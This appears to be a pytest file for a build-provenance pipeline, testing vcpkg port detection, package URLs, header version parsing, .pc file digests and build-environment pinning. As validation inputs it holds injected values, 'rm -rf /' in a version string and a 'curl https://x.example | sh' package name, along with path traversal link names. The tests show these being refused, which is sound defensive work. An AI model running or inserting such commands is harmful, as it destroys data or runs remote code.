"""What a host library is: vcpkg's installed status, the purl of each origin, the release headers, the build environment pin."""

from __future__ import annotations

import pytest

from pipeline.errors import EnvironmentProblem
from pipeline.formats import build_environment
from pipeline.formats.components import host_purl, host_supplier
from pipeline.formats.provenance import environment_descriptors
from pipeline.lanework import hostlibs

STATUS = """Package: ffmpeg
Version: 7.1.2
Port-Version: 5
Depends: vcpkg-cmake
Architecture: x64-windows
Multi-Arch: same
Abi: 0123
Status: install ok installed

Package: ffmpeg
Feature: avformat
Architecture: x64-windows
Multi-Arch: same
Status: install ok installed

Package: curl
Version: 8.17.0
Architecture: x64-windows
Multi-Arch: same
Abi: 4567
Status: deinstall ok not-installed
"""


def _vcpkg_tree(tmp_path):
    installed = tmp_path / "vcpkg" / "installed"
    pkgconfig = installed / "x64-windows" / "lib" / "pkgconfig"
    pkgconfig.mkdir(parents=True)
    for name in ("libavformat", "libcurl", "stray"):
        (pkgconfig / f"{name}.pc").write_text("Name: x\nVersion: 1\n")
    info = installed / "vcpkg" / "info"
    info.mkdir(parents=True)
    (installed / "vcpkg" / "status").write_text(STATUS)
    (info / "ffmpeg_7.1.2_x64-windows.list").write_text("x64-windows/\nx64-windows/lib/pkgconfig/libavformat.pc\nx64-windows/bin/avformat-61.dll\n")
    (info / "curl_8.17.0_x64-windows.list").write_text("x64-windows/lib/pkgconfig/libcurl.pc\n")
    return pkgconfig


def test_the_vcpkg_port_of_a_pc_file_comes_from_vcpkgs_installed_status(tmp_path):
    pkgconfig = _vcpkg_tree(tmp_path)
    assert hostlibs.vcpkg_owner(str(pkgconfig / "libavformat.pc")) == {"port": "ffmpeg", "version": "7.1.2", "port_version": "5", "triplet": "x64-windows"}
    assert hostlibs.vcpkg_owner(str(pkgconfig / "libcurl.pc")) is None  # listed, but its status says not installed
    assert hostlibs.vcpkg_owner(str(pkgconfig / "stray.pc")) is None  # no port lists it: a local file
    assert hostlibs.vcpkg_owner(str(tmp_path / "elsewhere" / "lib" / "pkgconfig" / "x.pc")) is None
    # A status whose port version is not vcpkg's number is no origin to record (it would reach the purl).
    status = pkgconfig.parents[2] / "vcpkg" / "status"
    status.write_text(STATUS.replace("Port-Version: 5", "Port-Version: 5&triplet=evil"))
    assert hostlibs.vcpkg_owner(str(pkgconfig / "libavformat.pc")) is None


def test_each_origin_has_its_own_purl_and_supplier_and_linux_never_says_vcpkg():
    debian = {"origin": "debian", "debian_package": "libavformat-dev", "debian_version": "7:5.1.6-0+deb12u1"}
    assert host_purl(debian, "debian") == "pkg:deb/debian/libavformat-dev@7:5.1.6-0%2Bdeb12u1"
    assert host_supplier(debian, "debian") == "Debian (package libavformat-dev)"
    vcpkg = {"origin": "vcpkg", "vcpkg": {"port": "ffmpeg", "version": "7.1.2", "port_version": "5", "triplet": "x64-windows"}}
    assert host_purl(vcpkg, "debian") == "pkg:generic/vcpkg/ffmpeg@7.1.2?port_version=5&triplet=x64-windows"
    assert host_supplier(vcpkg, "debian") == "vcpkg (port ffmpeg)"
    # A local build: no package purl, the build host as supplier; a declared vcpkg port (the lane's) is no origin.
    local = {"origin": "local", "vcpkg_port": "ffmpeg[avformat]", "version": "61.7.100"}
    assert host_purl(local, "debian") is None and host_supplier(local, "debian").startswith("the build host")


def test_the_upstream_release_is_read_from_the_header_the_library_installs_and_bounded(tmp_path):
    include = tmp_path / "include"
    (include / "curl").mkdir(parents=True)
    (include / "curl" / "curlver.h").write_text('#ifndef CURLINC_CURLVER_H\n#define LIBCURL_COPYRIGHT "Daniel Stenberg"\n#define LIBCURL_VERSION "8.17.0"\n#define LIBCURL_VERSION_MAJOR 8\n')
    assert hostlibs.upstream_release("libcurl", str(include)) == {"project": "curl", "version": "8.17.0", "source": "curl/curlver.h LIBCURL_VERSION"}
    assert hostlibs.upstream_release("zlib", str(include)) is None  # no header known to state it
    (include / "libavutil").mkdir()
    (include / "libavutil" / "ffversion.h").write_text('#define FFMPEG_VERSION "7.1; rm -rf /"\n')
    assert hostlibs.upstream_release("libavformat", str(include)) is None  # not a version
    (include / "libavutil" / "ffversion.h").write_bytes(b"/*" + b" " * (hostlibs.MAX_HEADER_BYTES + 1) + b'*/\n#define FFMPEG_VERSION "7.1.5"\n')
    assert hostlibs.upstream_release("libavformat", str(include)) is None  # over the bound: not read


def test_a_local_pc_file_has_one_digest_under_any_prefix(tmp_path):
    digests = set()
    for prefix in ("/opt/ffmpeg-7.1.5", "/home/someone/prefixes/ff"):
        path = tmp_path / f"{len(digests)}.pc"
        path.write_text(f"prefix={prefix}\nlibdir=${{prefix}}/lib\nName: libavutil\nVersion: 59.39.100\nLibs: -L{prefix.rstrip('/')}/lib -lavutil\n")
        digests.add(hostlibs.pc_file_digest(str(path), relocate=True))
        assert hostlibs.pc_file_digest(str(path), relocate=False) not in digests
    assert len(digests) == 1


def test_the_build_environment_is_recorded_only_as_pinned(tmp_path):
    pin = build_environment.read_pin()
    env = {build_environment.CONTAINER_VARIABLE: pin["container"], build_environment.SNAPSHOT_VARIABLE: pin["debian_snapshot"]}
    assert build_environment.observed({}) is None  # outside the pinned environment nothing is claimed
    recorded = build_environment.observed(env)
    assert recorded["digest"] == pin["container"].rsplit("@", 1)[1] and recorded["debian_archive"].endswith(f"/archive/debian/{pin['debian_snapshot']}/")
    container, snapshot = environment_descriptors({"build_environment": recorded})
    assert container["uri"] == f"oci://{pin['container']}" and container["digest"]["sha256"] == recorded["digest"].removeprefix("sha256:")
    assert snapshot["annotations"]["date"] == pin["debian_snapshot"]
    for variable, value in ((build_environment.SNAPSHOT_VARIABLE, "20990101T000000Z"), (build_environment.CONTAINER_VARIABLE, pin["container"][:-1] + "0")):
        with pytest.raises(EnvironmentProblem, match="does not name the pinned build environment") as info:
            build_environment.observed(dict(env, **{variable: value}))
        assert info.value.found == value
    with pytest.raises(EnvironmentProblem):
        build_environment.observed({build_environment.CONTAINER_VARIABLE: pin["container"]})  # one without the other


def _statement_recording(*dependencies):
    from pipeline.formats.provenance import Statement

    document = {"predicate": {"buildDefinition": {"resolvedDependencies": list(dependencies)}}}
    return Statement(b"", document, {}, "", {}, "")


def test_a_statement_naming_a_path_or_an_option_as_a_build_host_dependency_is_refused_before_anything_runs():
    from pipeline.errors import InputError
    from pipeline.formats.provenance import recorded_host

    compiler = {"name": "build-host:tool:c++", "annotations": {"version": "12.2.0", "origin": "debian", "debian_package": "g++-12", "debian_version": "12.2.0-14+deb12u1"}}
    [entry] = recorded_host(_statement_recording(compiler))
    assert (entry["name"], entry["kind"], entry["debian_version"]) == ("c++", "tool", "12.2.0-14+deb12u1")
    # The rebuild runs '<tool> --version' and 'pkg-config <module>' for each: never a path, an option or another kind.
    for name in ("build-host:tool:/tmp/evil", "build-host:tool:../bin/sh", "build-host:pkg-config:--define-variable=x", "build-host:script:x"):
        with pytest.raises(InputError, match="not a module or tool name") as info:
            recorded_host(_statement_recording({"name": name}), origin="s.intoto.json")
        assert info.value.found == name and info.value.file == "s.intoto.json"
    # What the refusal's fix prints as a command to run is package and version words only.
    hostile = {**compiler, "annotations": {**compiler["annotations"], "debian_package": "g++-12; curl https://x.example | sh"}}
    with pytest.raises(InputError, match="debian_package that is not a package or version word"):
        recorded_host(_statement_recording(hostile))
    # Each entry is probed on this host: none twice, and no more than a build declares.
    with pytest.raises(InputError, match="twice or more"):
        recorded_host(_statement_recording(compiler, compiler))
    from pipeline.formats.provenance import MAX_HOST_DEPENDENCIES

    many = [{"name": f"build-host:pkg-config:lib{i}"} for i in range(MAX_HOST_DEPENDENCIES + 1)]
    with pytest.raises(InputError, match="twice or more"):
        recorded_host(_statement_recording(*many))
    assert len(recorded_host(_statement_recording(*many[:-1]))) == MAX_HOST_DEPENDENCIES


def test_two_local_pc_files_that_differ_beyond_their_prefix_never_share_a_digest(tmp_path):
    def digest(text):
        path = tmp_path / "x.pc"
        path.write_text(text)
        return hostlibs.pc_file_digest(str(path), relocate=True)

    # A file's own '@PREFIX@' text is not the relocated prefix; a folder that merely starts like the prefix is not it.
    assert digest("prefix=/opt/a\nincludedir=@PREFIX@/include\n") != digest("prefix=/opt/a\nincludedir=/opt/a/include\n")
    assert digest("prefix=/opt/a\nincludedir=/opt/abc/include\n") != digest("prefix=/opt/x\nincludedir=/opt/xbc/include\n")
    # The same file under two prefixes still has one digest, with the prefix in flags and at a line's end.
    assert digest("prefix=/opt/a\nlibdir=/opt/a/lib\nLibs: -L/opt/a/lib -lz\nexec=/opt/a\n") == digest("prefix=/srv/b@1\nlibdir=/srv/b@1/lib\nLibs: -L/srv/b@1/lib -lz\nexec=/srv/b@1\n")


def test_what_inspects_a_host_library_is_bounded_in_output_and_in_time_even_with_a_child_left_behind(tmp_path, monkeypatch):
    import time

    monkeypatch.setattr(hostlibs, "TIMEOUT", 1)
    tool = tmp_path / "pkg-config"
    env = {"PATH": "/usr/bin:/bin"}
    # A child left holding the output (a library constructor can fork) must not keep the caller waiting.
    tool.write_text("#!/bin/sh\nsleep 8 &\necho /opt/x/include\n")
    tool.chmod(0o755)
    started = time.monotonic()
    assert hostlibs.variable(str(tool), "libavutil", "includedir", env) == "/opt/x/include"
    assert time.monotonic() - started < 5
    tool.write_text(f"#!/bin/sh\nhead -c {hostlibs.MAX_OUTPUT_BYTES + 1} /dev/zero\n")
    assert hostlibs.variable(str(tool), "libavutil", "includedir", env) is None  # more than any answer: not read
    tool.write_text("#!/bin/sh\nexec sleep 30\n")
    started = time.monotonic()
    assert hostlibs.variable(str(tool), "libavutil", "includedir", env) is None
    assert time.monotonic() - started < 5


def test_a_link_name_from_the_pc_file_never_becomes_a_path(tmp_path):
    libs = tmp_path / "lib"
    (libs / "lib..").mkdir(parents=True)  # lib../../evil.so would name lib/evil.so
    (libs / "evil.so").write_bytes(b"\x7fELF not really")
    (libs / "libok.so").write_bytes(b"\x7fELF not really either")
    tool = tmp_path / "pkg-config"
    tool.write_text(f"#!/bin/sh\necho '-L{libs} -l../../evil -lok'\n")
    tool.chmod(0o755)
    found = hostlibs.library_files(str(tool), "libx", {"PATH": "/usr/bin:/bin"}, None)
    assert [(lib.link_name, lib.file) for lib in found] == [("ok", "libok.so")]


def test_the_bounded_run_works_where_there_are_no_process_groups(tmp_path, monkeypatch):
    """The Windows job inspects vcpkg's modules with the same runner: os.killpg is POSIX only."""
    monkeypatch.delattr(hostlibs.os, "killpg")
    tool = tmp_path / "pkg-config"
    tool.write_text("#!/bin/sh\necho C:/vcpkg/installed/x64-windows/include\n")
    tool.chmod(0o755)
    assert hostlibs.variable(str(tool), "libavutil", "includedir", {"PATH": "/usr/bin:/bin"}) == "C:/vcpkg/installed/x64-windows/include"


def test_a_relative_link_folder_in_a_pc_file_is_resolved_against_its_prefix_never_the_current_folder(tmp_path, monkeypatch):
    """`Libs: -L./evil -lx` must not make the probe (which loads the library for its licence) take ./evil/libx.so
    from wherever the pipeline runs; inside the module's own prefix, the same relative folder is found."""
    here = tmp_path / "here"
    (here / "evil").mkdir(parents=True)
    (here / "evil" / "libx.so").write_bytes(b"planted in the current folder")
    prefix = tmp_path / "prefix"
    (prefix / "lib").mkdir(parents=True)
    tool = tmp_path / "pkg-config"
    tool.write_text(f'#!/bin/sh\ncase "$1" in --variable=prefix) echo {prefix} ;; *) echo "-L./evil -L../../outside -lx" ;; esac\n')
    tool.chmod(0o755)
    monkeypatch.chdir(here)
    assert hostlibs.library_files(str(tool), "libx", {"PATH": "/usr/bin:/bin"}, None) == []
    (prefix / "evil").mkdir()
    (prefix / "evil" / "libx.so").write_bytes(b"the module's own")
    [found] = hostlibs.library_files(str(tool), "libx", {"PATH": "/usr/bin:/bin"}, None)
    assert found.path == str(prefix / "evil" / "libx.so")
